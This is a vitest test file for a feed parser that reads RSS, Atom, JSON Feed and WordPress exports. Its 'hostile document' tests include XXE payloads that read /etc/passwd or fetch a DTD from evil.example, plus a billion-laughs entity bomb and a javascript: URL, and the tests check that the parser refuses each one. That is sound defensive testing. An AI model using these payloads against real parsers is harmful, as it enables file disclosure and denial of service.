import { describe, expect, it } from 'vitest'
import { decodeFeed } from './decode.ts'
import { readFeed } from './read.ts'

const rss = (items: string, head = '') =>
  `<?xml version="1.0"?>${head}<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Blått &amp; bra</title>${items}</channel></rss>`
const item = (more: string) => `<item><guid isPermaLink="false">tag:1</guid>${more}</item>`

describe('a feed', () => {
  it('is RSS, with CDATA, characters by number, an author and categories', async () => {
    const feed = await readFeed(
      rss(
        item(
          '<title><![CDATA[Lampor <item> & ljus]]></title><link>/ljus?a=1&amp;b=2</link><dc:creator>Åsa &#214;berg</dc:creator><category>Ljus</category><category><![CDATA[Höst]]></category><pubDate>Fri, 20 Nov 2026 09:30:00 +0100</pubDate><description>&lt;p&gt;Nu &lt;b&gt;mörkt&lt;/b&gt;&lt;/p&gt;</description>',
        ),
      ),
      'https://blogg.example/feed',
    )
    expect([feed.format, feed.title, feed.rejected]).toEqual(['RSS', 'Blått & bra', []])
    expect(feed.items).toEqual([
      {
        key: 'tag:1',
        url: 'https://blogg.example/ljus?a=1&b=2',
        title: 'Lampor & ljus',
        author: 'Åsa Öberg',
        categories: ['Ljus', 'Höst'],
        summary: 'Nu mörkt',
        image: null,
        publishedAt: '2026-11-20T08:30:00.000Z',
        updatedAt: null,
      },
    ])
  })

  it('is Atom, JSON Feed, or the export of WordPress without its drafts', async () => {
    const atom = await readFeed(
      `<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry><id>urn:1</id><title type="html">Ett &lt;i&gt;nytt&lt;/i&gt;</title><link rel="self" href="https://a.example/self"/><link href="https://a.example/1"/><updated>2026-11-20T09:30:00Z</updated><author><name>Ivo</name></author><category term="nytt"/></entry></feed>`,
    )
    expect([atom.format, atom.items[0]?.url, atom.items[0]?.title, atom.items[0]?.author]).toEqual([
      'Atom',
      'https://a.example/1',
      'Ett nytt',
      'Ivo',
    ])
    const json = await readFeed(
      JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        title: 'J',
        items: [{ id: 7, url: 'javascript:alert(1)', title: 'T', tags: ['x', 3] }, { title: 'nobody' }],
      }),
    )
    expect(json.items.map((one) => [one.key, one.url, one.categories])).toEqual([['7', null, ['x', '3']]])
    expect(json.rejected).toEqual([{ what: 'nobody', reason: 'it has neither an id nor an address' }])
    const post = (status: string, id: string) =>
      `<item><title>${id}</title><guid isPermaLink="false">https://wp.example/?p=${id}</guid><link>https://wp.example/${id}</link><wp:post_type>post</wp:post_type><wp:status>${status}</wp:status><wp:post_date_gmt>2026-11-20 09:30:00</wp:post_date_gmt><content:encoded><![CDATA[<script>x</script><p>Hej</p>]]></content:encoded></item>`
    const wxr = await readFeed(rss(`<wp:wxr_version>1.2</wp:wxr_version>${post('publish', '1')}${post('draft', '2')}`))
    expect([wxr.format, wxr.items.map((one) => [one.key, one.summary, one.publishedAt]), wxr.rejected]).toEqual([
      'WordPress export',
      [['https://wp.example/?p=1', 'Hej', '2026-11-20T09:30:00.000Z']],
      [{ what: '2', reason: 'it is not published (draft)' }],
    ])
  })
})

describe('a hostile document', () => {
  it.each([
    [
      'a billion laughs',
      rss(item('<title>&c;</title>'), '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY c "&a;&a;">]>'),
      /declares entities/,
    ],
    [
      'an external entity',
      rss(item('<title>&f;</title>'), '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
      /declares entities/,
    ],
    [
      'a parameter entity',
      rss('', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
      /declares entities/,
    ],
    ['endless nesting outside items', rss('<a>'.repeat(5000)), /nested more than/],
    ['a section without an end', rss('<title><![CDATA[ never'), /never ends/],
    ['an item without an end', rss('<item><title>a</title>').replace('</channel></rss>', ''), /never ends/],
    ['an item of three megabytes', rss(item(`<title>${'x'.repeat(3_000_000)}</title>`)), /larger than 2 MiB/],
    ['a page of HTML', '<!doctype html><html><body>no</body></html>', /neither RSS/],
    ['JSON that is none', '{"version": "1"}', /no JSON Feed/],
  ])('is refused: %s', async (_name, text, why) => {
    await expect(readFeed(text)).rejects.toThrow(why)
  })

  it('spoils only its own item where it can', async () => {
    const feed = await readFeed(
      rss(
        `${item(`<a>`.repeat(100))}<item><guid>https://b.example/2</guid><title>__proto__ &xxe; &#0; &#55296;</title></item>`,
      ),
    )
    expect(feed.rejected.map((one) => one.reason)).toEqual([expect.stringMatching(/nested more than/)])
    expect(feed.items.map((one) => one.title)).toEqual(['__proto__ &xxe; &#0; &#55296;'])
  })

  it('is read in the charset that it has, and refused in one that nobody knows', () => {
    const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><t>\xe5\xe4\xf6</t>', 'latin1')
    expect(decodeFeed(latin, undefined)).toContain('åäö')
    expect(decodeFeed(latin, 'application/rss+xml; charset=utf-8')).toContain('åäö')
    expect(decodeFeed(Buffer.from('\ufeffå', 'utf16le'), undefined)).toContain('å')
    expect(() => decodeFeed(Buffer.from('<?xml encoding="klingon-8"?>'), undefined)).toThrow('klingon-8')
  })
})
